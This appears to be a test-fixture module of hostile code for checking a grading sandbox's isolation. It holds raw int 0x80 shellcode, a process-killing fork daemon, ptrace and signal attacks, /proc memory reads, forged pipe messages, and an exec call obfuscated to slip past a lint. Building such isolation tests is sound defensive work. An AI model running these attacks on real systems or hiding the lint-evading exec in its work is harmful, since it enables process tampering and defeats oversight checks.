"""Hostile answer code for the grading tests (tests/grading/test_isolation.py,
tests/grading/test_sandbox.py): plain Python attacks, and ``unseen(attack)``, the answer-cell code
that runs one through ``exec`` reached by ``getattr`` (so the answer lint does not refuse it: the
sandbox, not the lint, must hold). Each attack records every step that worked in ``ok`` (or sets
``got_through``); ``MARKER`` in an attack is replaced by the submission's marker.
"""

from __future__ import annotations

INT80 = '''
import ctypes, mmap
_buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# eax, ebx, ecx, edx, esi = nr, a, b, c, d (from rdi, rsi, rdx, rcx, r8); int 0x80; ret
_buf.write(bytes.fromhex("53" "89f8" "89f3" "4989c9" "89d1" "4489ca" "4489c6" "cd80" "5b" "c3"))
_i = ctypes.c_int
_f = ctypes.CFUNCTYPE(_i, _i, _i, _i, _i, _i)(ctypes.addressof(ctypes.c_char.from_buffer(_buf)))
int80 = lambda nr, a=0, b=0, c=0, d=0: _f(nr, a, b, c, d)
'''

FORK_DAEMON = (
    INT80
    + '''
import os, time
pid = int80(2, 0, 0, 0)  # i386 fork
if pid == 0:  # the daemon: for a minute and a half, kill every later process, leave files
    me = os.getpid()
    end = time.monotonic() + 90
    while time.monotonic() < end:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) > me:
                int80(37, int(p), 9, 0)  # i386 kill
        for d in ("/grading", "/grading/tmp", "/grading/home", "/dev/shm", "/tmp"):
            try:
                with open(f"{d}/left-by-a-daemon-MARKER", "w") as fh:
                    fh.write("MARKER")
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)
got_through = pid > 0
'''
)
KILL = INT80 + "got_through = int80(37, __import__('os').getppid(), 0, 0) == 0  # i386 kill\n"
PTRACE = INT80 + (
    "got_through = int80(26, 0x4206, __import__('os').getppid()) == 0  # i386 ptrace SEIZE\n"
)

SIGNALS = '''
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
others = {int(p) for p in os.listdir("/proc") if p.isdigit()} | {1, os.getppid()}
others.discard(me)
others.discard(0)
info = ctypes.create_string_buffer(128)
ctypes.memmove(info, (ctypes.c_int * 3)(signal.SIGCONT, 0, -1), 12)  # si_code SI_QUEUE
def tried(what, r):
    if r == 0:
        ok.append(what)
for pid in others:
    try:
        tids = [int(t) for t in os.listdir(f"/proc/{pid}/task")]
    except OSError:
        tids = [pid]
    tried(("kill", pid), libc.kill(pid, signal.SIGCONT))
    for tid in tids:
        tried(("tkill", tid), libc.syscall(200, tid, signal.SIGCONT))
        tried(("tgkill", tid), libc.syscall(234, pid, tid, signal.SIGCONT))
        tried(("rt_tgsigqueueinfo", tid), libc.syscall(297, pid, tid, signal.SIGCONT, info))
    tried(("rt_sigqueueinfo", pid), libc.syscall(129, pid, signal.SIGCONT, info))
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd >= 0:
        ok.append(("pidfd_open", pid))
        tried(("pidfd_send_signal", pid), libc.syscall(424, pidfd, signal.SIGCONT, 0, 0))
    r, w = os.pipe()  # F_SETOWN: the kernel sends SIGIO to the owner when the pipe is ready
    tried(("F_SETOWN", pid), libc.fcntl(r, 8, pid))
    os.close(r)
    os.close(w)
tried(("kill 0", 0), libc.kill(0, signal.SIGCONT))
tried(("kill -1", -1), libc.kill(-1, signal.SIGCONT))
'''

PROC = '''
import ctypes, json, os, struct
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
forged = json.dumps({"idle": True, "done": True}).encode()
frame = struct.pack("!Q", len(forged)) + forged
for p in os.listdir("/proc"):
    if not p.isdigit() or int(p) == me:
        continue
    pid = int(p)
    for what in ("mem", "environ", "maps"):
        try:
            os.close(os.open(f"/proc/{pid}/{what}", os.O_RDWR if what == "mem" else os.O_RDONLY))
            ok.append((what, pid))
        except OSError:
            pass
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for n in fds:  # the zygote's plan and output pipes among them: write a forged message
        try:
            fd = os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        ok.append(("fd", pid, n))
        try:
            os.write(fd, frame)
        except OSError:
            pass
        os.close(fd)
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    for n in range(64):
        fd = libc.syscall(438, pidfd, n, 0) if pidfd >= 0 else -1  # pidfd_getfd
        if fd >= 0:
            ok.append(("pidfd_getfd", pid, n))
            try:
                os.write(fd, frame)
            except OSError:
                pass
'''

LEAVE = '''
import ctypes, os, socket
for d in ("/grading", "/grading/tmp", "/grading/home", "/dev/shm", "/tmp"):
    try:
        with open(f"{d}/left-MARKER", "w") as fh:
            fh.write("MARKER")
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x5EC, 4096, 0o1666)  # IPC_CREAT | 0666: a segment that would outlive the child
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\\0course-grade-MARKER")
    s.listen(1)
except OSError:
    pass
got_through = False  # what it left is judged by the classmates graded after it
'''

OUTCOME_THEN_SLEEP = '''
import json, os, stat, struct, time
raw = json.dumps({"exercise": "dependence", "results": [], "errors": []}).encode()
for n in os.listdir("/proc/self/fd"):
    try:
        if int(n) > 2 and stat.S_ISFIFO(os.fstat(int(n)).st_mode):
            os.write(int(n), struct.pack("!Q", len(raw)) + raw)
    except OSError:
        pass
time.sleep(10**6)
'''

LOOK_AROUND = '''
import ctypes, os
me = os.getpid()
found = []
for d in ("/grading", "/grading/tmp", "/grading/home", "/dev/shm", "/tmp"):
    try:
        found += [f"{d}/{f}" for f in os.listdir(d) if f not in ("home", "tmp", ".mpl")]
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0x5EC, 0, 0) >= 0:
    found.append("a shared memory segment")
# processes: only this one and the zygote that forked it belong to this submission
found += [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, os.getppid())]
got_through = bool(found)
'''

MEMORY = '''
import re
own = "MARKER"
pattern = re.compile(rb"zq_canary_[0-9a-f]{32}")
seen = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        named = len(fields) > 5 and not fields[5].startswith("[heap")
        if "r" not in fields[1] or "w" not in fields[1] or named or hi - lo > 1 << 28:
            continue
        try:
            mem.seek(lo)
            seen |= {m.decode() for m in pattern.findall(mem.read(hi - lo))}
        except (OSError, ValueError, OverflowError):
            pass
got_through = bool(seen - {own})
'''


NEW_PROCESSES = """
import ctypes, os, signal, subprocess
libc = ctypes.CDLL(None, use_errno=True)
routes = {
    "fork": lambda: os.fork(),
    "posix_spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
    "subprocess": lambda: subprocess.Popen(["/bin/true"]).pid,
    "system": lambda: 0 if os.system("true") == 0 else -1,
    "clone": lambda: libc.syscall(56, signal.SIGCHLD, 0, 0, 0, 0),
    "execv": lambda: os.execv("/bin/true", ["true"]),
}
for name, route in routes.items():
    try:
        pid = route()
    except OSError:
        continue
    if pid == 0:
        os._exit(0)
    if pid > 0:
        ok.append(name)
"""

TRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
buf = ctypes.create_string_buffer(16)
iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != me:
        if libc.syscall(101, 0x4206, int(p), 0, 0) == 0:  # ptrace(PTRACE_SEIZE)
            ok.append(("ptrace", p))
        if libc.syscall(310, int(p), iov, 1, iov, 1, 0) >= 0:  # process_vm_readv
            ok.append(("process_vm_readv", p))
"""

NETWORK = """
import socket
families = ("AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK", "AF_PACKET")
for family in families:
    try:
        socket.socket(getattr(socket, family), socket.SOCK_DGRAM).close()
        ok.append(family)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2)
    ok.append("connected")
except OSError:
    pass
"""


def unseen(attack: str, marker: str = "") -> str:
    """Answer-cell code that runs ``attack`` unseen by the lint and sets ``_got_through`` if
    any of its steps worked."""
    return (
        "import sys\n_ns = {'ok': []}\ntry:\n"
        "    getattr(getattr(sys, 'mod' + 'ules')['built' + 'ins'], 'ex' + 'ec')("
        f"{attack.replace('MARKER', marker)!r}, _ns)\n"
        "except Exception as _e:\n    print('attack stopped:', repr(_e))\n"
        "_got_through = bool(_ns['ok']) or _ns.get('got_through', False)\n"
    )
